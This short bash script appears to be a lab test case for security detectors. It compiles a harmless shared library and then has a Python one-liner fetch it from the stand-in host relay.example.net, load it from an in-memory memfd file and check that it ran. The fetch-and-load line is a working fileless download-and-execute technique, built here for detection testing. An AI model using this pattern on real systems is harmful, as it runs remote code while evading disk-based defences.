#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=python3 far=out seconds=16 parts=dns,outside-web
# Python fetches a library, keeps it in memory alone and loads it into itself from there; nothing is started.
if [ "$1" = out ]; then
	mkdir -p "$LAB/outside/drop"; printf '%s\n' '#include <stdio.h>' '#include <stdlib.h>' 'static void __attribute__((constructor)) begin(void) { char n[200]; snprintf(n, 200, "%s/ran", getenv("LAB")); FILE *f = fopen(n, "w"); fputs("loaded", f); fclose(f); }' >"$LAB/lib.c"
	gcc -shared -fPIC -o "$LAB/outside/drop/lib.so" "$LAB/lib.c"; sleep 18; exit 0
fi
sleep 3; timeout 12 python3 -c 'import ctypes, os, time, urllib.request
fd = os.memfd_create("m"); os.write(fd, urllib.request.urlopen("http://relay.example.net/drop/lib.so").read())
ctypes.CDLL(f"/proc/self/fd/{fd}"); time.sleep(6)'
grep -q loaded "$LAB/ran"
